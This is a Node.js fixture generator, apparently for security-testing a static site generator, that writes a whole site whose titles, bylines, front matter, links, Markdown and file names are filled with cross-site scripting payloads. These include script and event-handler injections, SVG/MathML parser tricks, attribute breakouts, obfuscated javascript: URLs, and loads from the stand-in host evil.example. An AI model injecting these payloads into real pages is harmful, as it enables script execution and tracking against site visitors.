// Texts that want to be scripts, and a site that is made of them.

import { mkdir, writeFile } from "node:fs/promises";
import path from "node:path";

/** Markup, raw: as a page may be saved, as somebody may write it into Markdown. */
const markup = [
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT >",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script>",
  "<script src=//evil.example/1.js></script>",
  "<script src='data:text/javascript,alert(1)'></script>",
  "<script type=module>alert(1)</script>",
  "<script type='text/javascript;version=1'>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>alert(1)//<</script>",
  "<script>alert(1)",
  "<script\0>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror=\"alert(1)\">",
  "<img src=x oNeRrOr=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  "<img src=x:x onerror\n=\nalert(1)>",
  "<img src=x onerror=&#97;lert(1)>",
  "<img src='//evil.example/1.png'>",
  "<img srcset='//evil.example/1.png 1x, //evil.example/2.png 2x'>",
  "<img src=x style='background:url(//evil.example/1.png)'>",
  "<img lowsrc=//evil.example/1.png dynsrc=//evil.example/2.png>",
  "<picture><source srcset=//evil.example/1.png><img src=x onerror=alert(1)></picture>",
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><script xlink:href=data:,alert(1) /></svg>",
  "<svg><script href='//evil.example/1.js'/></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text y=20>go</text></a></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><set attributeName=href to=javascript:alert(1)></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>go</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></foreignObject></svg>",
  "<svg><image href=x onerror=alert(1) /></svg>",
  "<svg><style>@import '//evil.example/1.css'</style></svg>",
  "<svg><p><style><a title='</style><img src=x onerror=alert(1)>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
  "<math href='javascript:alert(1)'>go</math>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
  "<body onload=alert(1)>",
  "<body background=//evil.example/1.png>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<iframe src=//evil.example/></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src=javascript:alert(1)>",
  "<embed src=//evil.example/1.swf>",
  "<applet code=x archive=//evil.example/1.jar></applet>",
  "<frameset><frame src=javascript:alert(1)></frameset>",
  "<portal src=//evil.example/></portal>",
  "<link rel=stylesheet href=//evil.example/1.css>",
  "<link rel=prefetch href=//evil.example/1>",
  "<link rel=import href=//evil.example/1>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
  "<base href=//evil.example/>",
  "<base target=_blank href=javascript:/alert(1)//>",
  "<style>@import '//evil.example/1.css';</style>",
  "<style>body{background:url(//evil.example/1.png)}</style>",
  "<div style='background:url(//evil.example/1.png)'>styled</div>",
  "<div style=\"width:expression(alert(1))\">styled</div>",
  "<p style='position:fixed;inset:0' onclick=alert(1)>all over</p>",
  "<a href=# onclick=alert(1)>go</a>",
  "<a href=x onfocus=alert(1) autofocus tabindex=0>go</a>",
  "<a ping=//evil.example/1 href=x>go</a>",
  "<div onmouseover=alert(1) onpointerenter=alert(1)>over</div>",
  "<details open ontoggle=alert(1)><summary>open</summary></details>",
  "<video src=x onerror=alert(1)></video>",
  "<video poster=//evil.example/1.png></video>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1) autoplay></audio>",
  "<audio autoplay src=//evil.example/1.mp3></audio>",
  "<input onfocus=alert(1) autofocus>",
  "<input type=image src=x onerror=alert(1)>",
  "<button formaction=javascript:alert(1) autofocus>go</button>",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<form id=f></form><button form=f formaction=//evil.example/>go</button>",
  "<select autofocus onfocus=alert(1)><option>one</select>",
  "<textarea autofocus onfocus=alert(1)></textarea>",
  "<marquee onstart=alert(1)>round</marquee>",
  "<isindex type=image src=x onerror=alert(1)>",
  "<table background=//evil.example/1.png><td>cell</table>",
  "<x onanimationstart=alert(1) style='animation:x'>moved</x>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<title></title><script>alert(1)</script>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)> -->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?><?php <img src=x onerror=alert(1)>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<plaintext><img src=x onerror=alert(1)>",
  "<img name=getElementById><form name=body><input name=attributes onfocus=alert(1) autofocus></form>",
];

/** What ends the text it stands in, or is markup only once it was read another time. */
const breakouts = [
  "\"><img src=x onerror=alert(1)>",
  "'><img src=x onerror=alert(1)>",
  "\" onmouseover=alert(1) x=\"",
  "' onfocus=alert(1) autofocus x='",
  "` onerror=alert(1) `",
  "</title><script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "</SCRIPT ><svg onload=alert(1)>",
  "<!--<script>alert(1)</script>",
  "\"}</script><img src=x onerror=alert(1)>",
  "\\\"}</script><img src=x onerror=alert(1)>",
  "\"-alert(1)-\"",
  "';alert(1)//",
  "\\';alert(1)//",
  "</style><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
  "--><img src=x onerror=alert(1)>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "&#x3c;img src=x onerror=alert(1)&#x3e;",
  "\\x3cimg src=x onerror=alert(1)\\x3e",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "%3Cimg%20src=x%20onerror=alert(1)%3E",
  "＜img src=x onerror=alert(1)＞",
  "{{ '<img src=x onerror=alert(1)>' | safe }}",
  "{% raw %}<img src=x onerror=alert(1)>{% endraw %}",
  "${alert(1)}",
  "#{alert(1)}",
  "\u2028alert(1)//\u2029",
  "\u202e<img src=x onerror=alert(1)>",
  "<mark>alert(1)</mark><img src=x onerror=alert(1)>",
  "A title\\n<script>alert(1)</script>",
];

/** Addresses that are scripts, in the spellings that browsers take, and some that lead away at once. */
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java&#9;script:alert(1)",
  "java&#x0A;script:alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)",
  "&#0000106avascript:alert(1)",
  "\\javascript:alert(1)",
  "javascript\\:alert(1)",
  "javascript://%0aalert(1)",
  "javascript:%61lert(1)",
  "javascript:void(alert(1))",
  "javascript:/*--></title></style></textarea></script>*/alert(1)",
  "javascript:\"<img src=x onerror=alert(1)>\"",
  "vbscript:alert(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "blob:null/alert(1)",
  "filesystem:javascript:alert(1)",
  "x' onerror='alert(1)",
  "x\" onerror=\"alert(1)",
  "x) onerror=alert(1) (",
  "/\\evil.example/1",
];

const numbered = (all, from) => all.map((text, index) => text.replaceAll("alert(1)", `alert(${from + index})`));
const hostile = {
  markup: numbered(markup, 1000),
  breakouts: numbered(breakouts, 2000),
  addresses: numbered(addresses, 3000),
};

/** All of them. */
export const payloads = Object.values(hostile).flat();

const plain = "The gardener said that the leeks of this spring were better than those of the year before, and nobody knew why.";
const toml = (text) => JSON.stringify(text.replaceAll("\0", "\ufffd")).replaceAll("\u007f", "");
const attribute = (text) => text.replaceAll('"', "&quot;");

/** A link and a picture: with an address that is a script, or, as one that leads nowhere is an error, with words that are. */
function link(text, index) {
  const flat = text.replaceAll(/[<>\n[\]]/g, "");
  const leads = /^[a-z-]+:/i.test(text) ? flat : "https://example.org/";
  return `[go ${index}](<${leads}> "${text.replaceAll(/["\n]/g, "")}") [${flat}](https://example.org/) <a href="${text.replaceAll('"', "&quot;")}">go</a>`;
}

/** Groups of some, for a page can hold more than one. */
function* groups(all, size) {
  for (let from = 0; from < all.length; from += size) yield all.slice(from, from + size);
}

/** Writes a site whose every text is hostile to `root`. What each way of coming in is given is in the names of its files. */
export async function writeHostileSite(root) {
  const write = async (file, text) => {
    await mkdir(path.join(root, path.dirname(file)), { recursive: true });
    await writeFile(path.join(root, file), text);
  };
  const [first, second] = hostile.breakouts;
  await write("gleaner.toml", `title = ${toml(`T ${first}`)}\ndescription = ${toml(second)}\nbase_url = "https://example.org/"\n`);

  // Plain text: as title, byline and body; as saved, whatever it says.
  let number = 0;
  for (const [title, author, ...rest] of groups([...hostile.breakouts, ...hostile.markup], 16)) {
    number++;
    const body = [title, author, ...rest].map((text) => `${plain} ${text} ${plain}`).join("\n\n");
    await write(`seeds/plain-${number}.txt`, `Plain ${number} ${title}\n\nBy Ann ${author} | 2 March 2011\n\n${plain}\n\n${body}\n`);
  }
  // Web pages: raw in the body, in the head, in attributes, as addresses.
  for (const some of groups(payloads, 14)) {
    number++;
    const raw = some.map((text) => `<p>${plain} ${text} ${plain}</p>\n<p><a href="${attribute(text)}">go ${number}</a> ` +
      `<img src="${attribute(text)}" alt="${attribute(text)}" title="${attribute(text)}" width=300 height=300> ${plain}</p>`);
    const [one, other = one, third = one] = some;
    await write(
      `seeds/page-${number}.html`,
      `<!doctype html><html lang="${attribute(one)}"><head><title>${one}</title><meta name=author content="${attribute(other)}">` +
        `<meta property="og:title" content="Page ${number} ${attribute(third)}"><link rel=canonical href="${attribute(one)}">` +
        `<meta property="og:image" content="${attribute(other)}"><script type="application/ld+json">{"@type":"Article",` +
        `"headline":${JSON.stringify(third)},"author":${JSON.stringify(one)},"url":${JSON.stringify(other)}}</script></head>` +
        `<body><article><h1>Page ${number} ${one}</h1><p class=byline>By ${other}</p>${raw.join("\n")}</article></body></html>`,
    );
  }
  // Markdown: raw, in code, as link, picture and footnote, and in all of its front matter.
  for (const some of groups(payloads, 12)) {
    number++;
    const [title, author = title, description = title] = some;
    const body = some.map(
      (text, index) =>
        `${plain} ${text}\n\n${link(text, index)} <${text.replaceAll(/[<>\s]/g, "")}> [^n${index}]\n\n[^n${index}]: ${text}\n\n` +
        `\`\`\`${text.replaceAll(/[\n\`]/g, "")}\n${text}\n\`\`\`\n\n## ${text.replaceAll("\n", " ")} {#${text.replaceAll(/[\s}]/g, "")}}\n\n| ${text.replaceAll(/[|\n]/g, "")} |\n|---|\n| a |\n\n> [!NOTE]\n> ${text}\n\n$${text.replaceAll(/[$\n]/g, "")}$\n`,
    );
    const front = `+++\ntitle = ${toml(`Note ${number} ${title}`)}\ndate = 2011-0${1 + (number % 9)}\nauthors = [${toml(author)}]\n` +
      `description = ${toml(description)}\naliases = [${toml(title)}]\n`;
    const source = `[source]\nsite = ${toml(author)}\n`;
    await write(`seeds/note-${number}.md`, `${front}${source}+++\n\n${body.join("\n")}`);
    // The curator's own may say the same.
    const own = `+++\ntitle = ${toml(`Own ${number} ${description}`)}\nauthors = [${toml(title)}]\ndescription = ${toml(author)}\n+++\n\n${body.join("\n")}`;
    await write(`content/articles/own-${number}.md`, own);
  }
  // Topics, paths, pages and the names of files.
  for (const [index, text] of hostile.breakouts.entries()) {
    const term = text.replaceAll(/[^a-z ]/gi, " ").trim().split(/\s+/)[0] || "leeks";
    if (index % 4 === 0) {
      await write(`content/topics/topic-${index}.md`, `+++\ntitle = ${toml(`Topic ${text}`)}\ndescription = ${toml(text)}\nterms = [${toml(`leeks ${term}`)}, "spring", "gardener", "leeks"]\n+++\n\n${text}\n`);
      await write(`content/page-${index}.md`, `+++\ntitle = ${toml(text)}\n+++\n\n${text}\n`);
    }
    const name = text.replaceAll(/[/\0\n]/g, "").slice(0, 80);
    await write(`seeds/${name}.txt`, `A named seed ${index}\n\n${plain} It is number ${index}.\n\n${plain}\n`);
  }
  await write("content/paths/path.md", `+++\ntitle = ${toml(`Path ${first}`)}\n+++\n\nBegin with [the first](../articles/own-${number}.md). ${second}\n`);
  await write("static/drawing.svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect width='9' height='9'/></svg>");
}
